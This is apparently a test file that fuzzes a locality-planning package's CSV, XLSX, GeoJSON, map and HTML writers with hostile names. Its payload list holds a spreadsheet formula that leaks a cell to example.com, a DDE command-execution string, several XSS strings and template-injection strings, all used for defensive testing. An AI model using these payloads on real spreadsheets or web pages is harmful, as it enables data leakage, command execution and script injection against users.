"""Fuzzing the writers: whatever the locality names and ids (formulas, markup, `$`,
control characters, any Unicode), every writer (CSV, XLSX, GeoPackage, GeoJSON, PDF, SVG,
PNG, HTML) finishes without a crash, and no spreadsheet cell is a live formula and no
page carries a script from a name.

``LOCALITIES_FUZZ_EXAMPLES`` (default 150) scales the number of examples as in
tests/test_fuzz.py: the tables get one in 25 (each example writes five files and reads
them back), the maps one in 150 (a map takes ~10 s to draw); each example renames every
locality, so one map example already draws eleven hostile names. About 30 s at the default.
"""

from __future__ import annotations

import json
import os
import re
import tempfile
from pathlib import Path

import matplotlib
import pyogrio
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

import localities as loc
from localities import export, maps

matplotlib.use("Agg")

EXAMPLES = int(os.environ.get("LOCALITIES_FUZZ_EXAMPLES", "150"))
# No shrinking: each example writes eight files, and a failure prints its example anyway.
QUICK = (Phase.explicit, Phase.reuse, Phase.generate)
TABLES = settings(max_examples=max(3, EXAMPLES // 25), deadline=None, phases=QUICK,
                  suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
FIGURES = settings(max_examples=max(1, EXAMPLES // 150), deadline=None, phases=QUICK,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1",
    "=cmd|' /C calc'!A0", "#N/A", "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", "{% x %}", "${7*7}",
    "Cost $5 and $10", "$\\frac{1}{0}$", "$", "a $x^$ b", "\\", "%s%n", "Bell\x07\x00\x1b", "line\nbreak\r\n",
    "", " ", "Baile Àtha Cliath – Ærø ☃ 𝔘 中文 مرحبا", "x" * 300,
]


def _names(hostile=HOSTILE):
    return st.one_of(st.sampled_from(hostile), st.text(max_size=40),
                     st.lists(st.sampled_from(hostile), min_size=2, max_size=3).map("".join))



@pytest.fixture(scope="module")
def ranked():
    dz = loc.load_datazones()
    plan = loc.propose(dz, target_population=30_000, seed=0)  # few localities: quick maps
    table = loc.rank(plan, dz)
    # Coarser outlines write faster; the text is what is under test.
    table["geometry"] = table.simplify(1000)
    plan.localities["geometry"] = plan.localities.simplify(1000)
    return plan, table


def _rename(plan, table, names: list[str], ids: list[str] | None):
    """The plan and ranking with new names (and ids; made unique, never blank)."""
    plan = plan.__class__(**{f: getattr(plan, f) for f in plan.__dataclass_fields__})
    table = table.copy()
    old = list(table["locality"])
    new = old if ids is None else [(ids * len(old))[k] or f"L{k}" for k in range(len(old))]
    new = [n if new.count(n) == 1 else f"{n}#{k}" for k, n in enumerate(new)]
    mapping = dict(zip(old, new))
    table["locality"] = table["locality"].map(mapping)
    table["name"] = (names * len(table))[: len(table)]
    localities = plan.localities.copy()
    localities["locality"] = localities["locality"].map(mapping)
    localities["name"] = localities["locality"].map(dict(zip(table["locality"], table["name"])))
    plan.localities = localities
    plan.assignment = plan.assignment.map(mapping)
    return plan, table


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _live_formulas_in_xlsx(path: Path) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    live = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type in ("f", "e"):
                    live.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
                elif (isinstance(cell.value, str) and cell.value.startswith(FORMULA)
                      and not export._SIGNED_NUMBER.fullmatch(cell.value) and not cell.quotePrefix):
                    live.append(f"{sheet.title}!{cell.coordinate} {cell.value!r} (no quotePrefix)")
    return live


def _live_formulas_in_csv(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c.startswith(FORMULA) and not export._SIGNED_NUMBER.fullmatch(c)]


@TABLES
@given(names=st.lists(_names(), min_size=1, max_size=6), ids=st.none() | st.lists(_names(), min_size=6, max_size=6))
def test_table_writers(ranked, names, ids):
    plan, table = _rename(*ranked, names, ids)
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        export.to_csv(table, folder / "r.csv")
        export.to_xlsx({"Ranking": table, "Assignment": plan.assignment.reset_index()}, folder / "r.xlsx")
        plan.to_file(folder / "plan.gpkg", ranking=table)
        export.to_geojson(table, folder / "r.geojson")
        assert _live_formulas_in_csv(folder / "r.csv") == []
        assert _live_formulas_in_xlsx(folder / "r.xlsx") == []
        # The names survive the GeoPackage and GeoJSON whole (a NUL, where GDAL would cut, becomes U+FFFD).
        stored = pyogrio.read_dataframe(folder / "plan.gpkg", layer="localities")
        assert list(stored["name"]) == [n.replace("\x00", "\ufffd") for n in plan.localities["name"]]
        assert set(pyogrio.read_dataframe(folder / "plan.gpkg", layer="assignment")["locality"]) == set(stored["locality"])
        geojson = json.loads((folder / "r.geojson").read_text(encoding="utf-8"))
        assert [f["properties"]["name"] for f in geojson["features"]] == [n.replace("\x00", "\ufffd") for n in table["name"]]
        assert [p.name for p in folder.iterdir() if p.name.startswith(".")] == []


SCRIPT = re.compile(r"<(img|svg|script)[^>]*(onerror|onload|>alert)", re.IGNORECASE)


@FIGURES
@given(names=st.lists(_names(), min_size=1, max_size=4), title=_names())
def test_figure_and_page_writers(ranked, names, title):
    _draw_all(ranked, names + HOSTILE, title)


def test_template_markup_in_names_is_text_on_the_web_page(ranked, tmp_path):
    """folium renders a map's scripts, their data included, as Jinja templates a second time:
    a locality named "{{ 7*7 }} town" was shown as "49 town" (in its hover, its number's, the
    GeoJSON), and "{% x %}" in a name or title stopped the page being written."""
    _, table = _rename(*ranked, ["{{ 7*7 }} town", "{% x %}", "{# c"], None)
    table.attrs["council"] = "Council {{ 5*5 }}"
    for m in (maps.explore(table, column="income_rate", title="Title {{ 6*7 }} {% oops %}"),
              maps.explore(table, poorer=True)):
        page = maps.save_html(m, tmp_path / "map.html").read_text(encoding="utf-8")
        assert not re.search(r"49 town|Title 42|Council 25", page)
        assert "&#123;&#123; 7*7 &#125;&#125; town" in page and "&#123;% x %&#125;" in page


def test_dollar_signs_in_map_text(ranked):
    """Two `$` in a name or title are text, not matplotlib mathtext (which can fail)."""
    _draw_all(ranked, [h for h in HOSTILE if "$" in h], "Cost $5 and $\\fracx{1 $ title")


def _draw_all(ranked, names, title):
    import matplotlib.pyplot as plt

    _, table = _rename(*ranked, names, None)
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        fig = maps.plot_map(table, column="income_rate", title=title)
        for suffix in ("pdf", "svg", "png"):
            maps.save_figure(fig, folder / f"map.{suffix}", dpi=40)
            assert (folder / f"map.{suffix}").stat().st_size > 0
        plt.close("all")
        maps.save_html(maps.explore(table, column="income_rate"), folder / "map.html")
        page = (folder / "map.html").read_text(encoding="utf-8")
        assert not SCRIPT.search(page), SCRIPT.search(page).group(0)
        assert "</script><script>alert" not in page
        svg = (folder / "map.svg").read_text(encoding="utf-8")
        assert not SCRIPT.search(svg)
